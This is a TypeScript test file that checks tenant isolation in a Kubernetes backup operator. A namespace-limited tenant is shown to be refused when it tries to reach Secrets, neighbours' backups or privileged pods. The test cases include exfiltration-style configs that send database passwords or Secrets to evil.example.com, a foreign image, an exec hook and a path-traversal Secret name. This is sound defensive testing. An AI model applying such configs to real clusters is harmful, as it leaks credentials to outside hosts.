import { beforeAll, describe, expect, test } from 'vitest';
import { backupRun, logicalPolicy, restoreRequest } from '../support/tidemark/policy.ts';
import { explainFailure, type Scenario, startScenario } from '../support/tidemark/scenario.ts';
import { s3Repository } from '../support/tidemark/scenario-objects.ts';
import { createTenant, type Tenant } from '../support/tidemark/tenant.ts';

/**
 * Somebody who may create Tidemark's kinds in one namespace, and nothing else: what an application team has that is given
 * no more. Whoever rules the namespace has made the repository, the policy and the Secrets there; the neighbour has a
 * namespace, a Secret, a database and a backup in the same bucket.
 */
describe('a tenant who may only create our kinds in one namespace', () => {
  let scenario: Scenario;
  let tenant: Tenant;
  let neighbour: string;
  let neighboursBackup: string;
  let backupID: string;

  beforeAll(async () => {
    scenario = await startScenario('tenant');
    const { namespace } = scenario;
    await scenario.postgres();
    await scenario.apply(...scenario.repositoryObjects(), logicalPolicy(namespace), backupRun(namespace, 'own'));
    backupID = (await scenario.finished('backuprun', 'own')).status?.backupID ?? '';
    expect(backupID).not.toBe('');
    const other = await startScenario('neighbour');
    neighbour = other.namespace;
    await other.postgres();
    await other.apply(
      other.s3.secret(neighbour, 'offsite-s3'),
      s3Repository(neighbour, 'offsite', other.s3.endpoint, scenario.bucket),
      logicalPolicy(neighbour),
      backupRun(neighbour, 'theirs'),
    );
    neighboursBackup = (await other.finished('backuprun', 'theirs')).status?.backupID ?? '';
    expect(neighboursBackup).not.toBe('');
    tenant = await createTenant(scenario);
  });

  test('has no right in his namespace but to our kinds, and none elsewhere', async () => {
    for (const namespace of [scenario.namespace, neighbour])
      for (const [verb, resource] of [
        ['get', 'secrets'],
        ['create', 'pods'],
        ['patch', 'statefulsets.apps'],
        ['create', 'jobs.batch'],
      ] as const)
        expect(await tenant.may(verb, resource, namespace), `${verb} ${resource} in ${namespace}`).toBe(false);
    expect(await tenant.may('create', 'backuppolicies.tidemark.dev', scenario.namespace)).toBe(true);
    expect(await tenant.may('create', 'backuppolicies.tidemark.dev', neighbour)).toBe(false);
    expect(await tenant.may('patch', 'backupruns.tidemark.dev/status', scenario.namespace)).toBe(false);
  });

  test('makes a backup by the policy that is there, which is what he is there for', async () => {
    explainFailure(scenario);
    await tenant.apply(backupRun(scenario.namespace, 'by-the-tenant'));
    expect((await scenario.finished('backuprun', 'by-the-tenant')).status).toMatchObject({ phase: 'Completed' });
  });

  test('names no object of another namespace: there is no field for it', async () => {
    const { namespace } = scenario;
    for (const name of [`${neighbour}/orders-db`, `../${neighbour}/orders-db`])
      await expect(
        tenant.apply(logicalPolicy(namespace, { source: sourceWith({ credentialsSecretRef: { name } }) }, 'x')),
      ).rejects.toThrow();
    const foreign = { name: 'orders-db', namespace: neighbour };
    await expect(
      tenant.apply(logicalPolicy(namespace, { source: sourceWith({ credentialsSecretRef: foreign }) }, 'x')),
    ).rejects.toThrow(/namespace/);
  });

  test.each<[string, (namespace: string) => object]>([
    [
      'the password of the database sent to a server of his own',
      (namespace) =>
        logicalPolicy(
          namespace,
          { source: { host: 'evil.example.com', credentialsSecretRef: { name: 'orders-db' } } },
          'evil',
        ),
    ],
    [
      'any Secret, as the store’s, sent to an endpoint of his own',
      (namespace) => s3Repository(namespace, 'evil', 'http://evil.example.com', 'bucket'),
    ],
    [
      'a restore with the Secret of the database',
      (namespace) => restoreRequest(namespace, 'evil', { source: { backupRunRef: { name: 'own' } } }),
    ],
    [
      'an identity',
      (namespace) => ({
        ...repositoryOf(namespace),
        spec: {
          volume: { claimName: 'x' },
          encryption: { age: { recipients: [recipient], identitySecretRef: { name: 'orders-db', key: 'password' } } },
        },
      }),
    ],
    [
      'the claim of the database',
      (namespace) => ({ ...repositoryOf(namespace), spec: { volume: { claimName: 'data-orders-db-0' } } }),
    ],
    [
      'a ServiceAccount',
      (namespace) => logicalPolicy(namespace, { jobTemplate: { serviceAccountName: 'default' } }, 'evil'),
    ],
    [
      'annotations of a pod',
      (namespace) =>
        logicalPolicy(namespace, { jobTemplate: { annotations: { 'sidecar.istio.io/userVolume': '[]' } } }, 'evil'),
    ],
    [
      'a priority',
      (namespace) =>
        logicalPolicy(namespace, { jobTemplate: { priorityClassName: 'system-cluster-critical' } }, 'evil'),
    ],
    [
      'an image of his own beside the backup',
      (namespace) =>
        restoreRequest(namespace, 'evil', {
          source: { backupRunRef: { name: 'own' } },
          target: { ephemeral: { image: 'evil.example.com/x' } },
        }),
    ],
    [
      'a sidecar in the database’s pods',
      (namespace) => logicalPolicy(namespace, { walArchiving: { mode: 'Archive' } }, 'evil'),
    ],
    [
      'a command in the database’s pods',
      (namespace) => logicalPolicy(namespace, { hooks: { preBackup: [{ exec: { command: ['id'] } }] } }, 'evil'),
    ],
    [
      'a Secret of the namespace sent to an address of his own',
      (namespace) => {
        const secretKeyRef = { name: 'db', key: 'password' };
        const http = { url: 'https://evil.example.com', headers: [{ name: 'X-Take', secretKeyRef }] };
        return logicalPolicy(namespace, { hooks: { postBackup: [{ http }] } }, 'evil');
      },
    ],
    [
      'the database replaced',
      (namespace) =>
        recovery(namespace, {
          inPlace: { workloadRef: { kind: 'StatefulSet', name: 'orders-db' }, confirm: 'orders-db' },
        }),
    ],
    [
      'a StatefulSet like the database',
      (namespace) => recovery(namespace, { instance: { name: 'evil', storage: { size: '1Gi' } } }),
    ],
    [
      'an image of his own over the database’s files',
      (namespace) => recovery(namespace, { ephemeral: { image: 'evil.example.com/x' } }),
    ],
  ])('does not get %s', async (_, object) => {
    const evil = object(scenario.namespace);
    await expect(tenant.apply(evil)).rejects.toThrow(/may not|you are not|forbidden/i);
    // Whoever rules the namespace may: it is he that is refused, and not what he asks for.
    await scenario.kubectl.run(['apply', '--dry-run=server', '-f', '-'], { input: JSON.stringify(evil) });
  });

  test('does not change what somebody else has written to the same end', async () => {
    const { namespace, kubectl } = scenario;
    const patch = { spec: { s3: { endpoint: 'http://evil.example.com' } } };
    await expect(tenant.patch('backuprepository', 'offsite', patch)).rejects.toThrow(/may not read/);
    await expect(tenant.patch('backuppolicy', 'orders', { spec: { source: { port: 5433 } } })).rejects.toThrow(
      /may not read/,
    );
    // What is no part of the spec is his to write, as the role says.
    await tenant.patch('backuppolicy', 'orders', { metadata: { annotations: { note: 'x' } } });
    expect((await kubectl.get('backuprepository', 'offsite', namespace))?.spec).toMatchObject({
      s3: { endpoint: scenario.s3.endpoint },
    });
  });

  test('restores no backup of his neighbour from the bucket that they share', async () => {
    explainFailure(scenario);
    const { namespace } = scenario;
    const source = { repository: { repositoryRef: { name: 'offsite' }, backupID: neighboursBackup } };
    // Two backups of one second have one ID; then it is his own that is meant.
    expect(neighboursBackup).not.toBe(backupID);
    await tenant.apply({
      ...restoreRequest(namespace, 'theirs', { source }),
      ...withTarget(namespace, 'theirs', source),
    });
    const request = await scenario.finished('restorerequest', 'theirs');
    expect(request.status).toMatchObject({ phase: 'Failed' });
    expect(request.status?.conditions?.[0]?.reason).toMatch(/^(BackupNotFound|ImageUnknown)$/);
    await tenant.apply({
      ...recovery(namespace, { ephemeral: {} }),
      metadata: { name: 'theirs', namespace },
      spec: {
        source: { repository: { repositoryRef: { name: 'offsite' }, policy: 'orders', namespace: neighbour } },
        target: { ephemeral: {} },
      },
    });
    const attempt = await scenario.finished('pitrrecovery', 'theirs');
    expect(attempt.status).toMatchObject({
      phase: 'Failed',
      conditions: [{ reason: 'ForeignNamespace' }, { type: 'Stalled' }],
    });
  });

  test('gets no pod that is more than a pod of ours, and none with a token beside the agent’s', async () => {
    const { kubectl, namespace } = scenario;
    const pods = await kubectl.list('pods', namespace, 'app.kubernetes.io/managed-by=tidemark');
    expect(pods.length).toBeGreaterThan(0);
    for (const { spec } of pods) {
      expect(spec).toMatchObject({ serviceAccountName: 'tidemark-agent', automountServiceAccountToken: false });
      const text = JSON.stringify(spec);
      expect(text).not.toMatch(/"hostPath"|"privileged":true|"hostNetwork":true|"hostPID":true/);
    }
    const found = await kubectl.get('namespace', namespace);
    expect(found?.metadata).toMatchObject({ labels: { 'pod-security.kubernetes.io/enforce': 'restricted' } });
  });
});

const recipient = `age1${'q'.repeat(58)}`;

function sourceWith(more: object): object {
  return { workloadRef: { kind: 'StatefulSet', name: 'orders-db' }, ...more };
}

function repositoryOf(namespace: string): object {
  return { apiVersion: 'tidemark.dev/v1alpha1', kind: 'BackupRepository', metadata: { name: 'evil', namespace } };
}

function recovery(namespace: string, target: object): object {
  return {
    apiVersion: 'tidemark.dev/v1alpha1',
    kind: 'PitrRecovery',
    metadata: { name: 'evil', namespace },
    spec: { source: { policyRef: { name: 'orders' } }, target },
  };
}

/** Into a server of its own, for which the tenant has to name no Secret. */
function withTarget(namespace: string, name: string, source: object): object {
  return { metadata: { name, namespace }, spec: { source, target: { ephemeral: {} } } };
}
